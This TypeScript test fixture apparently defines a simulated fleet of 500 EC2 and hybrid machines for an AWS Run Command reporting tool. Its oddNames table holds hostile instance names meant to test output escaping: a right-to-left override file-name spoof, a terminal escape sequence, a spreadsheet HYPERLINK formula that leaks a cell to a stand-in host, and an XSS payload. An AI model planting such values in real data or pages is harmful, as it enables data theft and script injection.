/** The machines of the account: 440 on EC2 and 60 hybrid ones in the stores. */
import type { Chance } from "./draw.ts";

/** Package manager or operating system of a machine. */
export type FleetPlatform = "apt" | "dnf" | "windows";

/** A machine of the account. */
export interface FleetMachine {
  readonly InstanceId: string;
  /** Run Command's InstanceName. Default: none, as for a machine that reports no name. */
  readonly InstanceName?: string;
  /** Name in the plan. */
  readonly name: string;
  readonly platform: FleetPlatform;
  /** Usual duration of a command, as a share of the longest possible one. */
  readonly pace: number;
}

/** All machines of the account. */
export interface Fleet {
  readonly machines: readonly FleetMachine[];
  /** The machines of these roles, such as `web-prod`, in the order of the roles. */
  called(...roles: readonly string[]): readonly FleetMachine[];
}

/** Machine that was terminated before last night, so it is in none of last night's lists. */
export const GONE_WEB = "web-prod-044";
/** Machine that was terminated last night: the command's `Parameters` name it, but it has no command invocation. */
export const GONE_DATABASE = "db-prod-24";

interface FleetRole {
  readonly name: string;
  readonly count: number;
  readonly platform: FleetPlatform;
  /** Number of digits in the name. Default: 3. */
  readonly digits?: number;
  /** Whether it is managed outside EC2, with an ID that starts with `mi-`. Default: false. */
  readonly hybrid?: boolean;
}

const roles: readonly FleetRole[] = [
  { name: "web-prod", count: 60, platform: "apt" },
  { name: "web-eu", count: 30, platform: "apt" },
  { name: "app-prod", count: 80, platform: "dnf" },
  { name: "app-eu", count: 40, platform: "dnf" },
  { name: "db-prod", count: 24, platform: "dnf", digits: 2 },
  { name: "db-eu", count: 16, platform: "dnf", digits: 2 },
  { name: "cache-prod", count: 20, platform: "apt", digits: 2 },
  { name: "batch", count: 40, platform: "dnf" },
  { name: "ci-runner", count: 40, platform: "apt" },
  { name: "win-fs", count: 20, platform: "windows", digits: 2 },
  { name: "win-iis", count: 50, platform: "windows" },
  { name: "win-sql", count: 20, platform: "windows", digits: 2 },
  { name: "store-kiosk", count: 60, platform: "apt", digits: 2, hybrid: true },
];

/** Reported names that differ from the machine's name. Machines can report any name, or none. */
const oddNames: Readonly<Record<string, string>> = {
  "web-prod-058": "web-prod-058\u202Egpj.exe",
  "web-prod-059": "web-prod-059\u001B]0;owned by web-prod-059\u0007",
  "app-prod-079": '=HYPERLINK("https://example.invalid/?leak="&A1,"app-prod-079")',
  "store-kiosk-07": "<img src=x onerror=alert(7)>store-kiosk-07",
  "store-kiosk-11": "",
  "store-kiosk-21": "東京-店舗キオスク-21 🏪",
  "win-fs-09": "FILIALE-KÖLN|win-fs-09",
  "db-eu-15": "db-\u200Beu-\u200D15",
};

/** Creates the fleet. Only its IDs and paces are random. */
export const fleetFrom = (chance: Chance): Fleet => {
  const byRole = new Map(roles.map((role) => [role.name, machinesOf(role, chance)]));
  return {
    machines: [...byRole.values()].flat(),
    called: (...names) => names.flatMap((name) => byRole.get(name) ?? []),
  };
};

const machinesOf = (role: FleetRole, chance: Chance): readonly FleetMachine[] => {
  const { count, platform, digits = 3, hybrid = false } = role;
  const draw = chance.draw(`machines/${role.name}`);
  return Array.from({ length: count }, (_, index) => {
    const name = `${role.name}-${String(index + 1).padStart(digits, "0")}`;
    const InstanceName = oddNames[name] ?? name;
    return {
      InstanceId: `${hybrid ? "mi" : "i"}-${draw.hex17()}`,
      ...(InstanceName !== "" && { InstanceName }),
      name,
      platform,
      pace: draw.whole(12, 36) / 100,
    };
  });
};
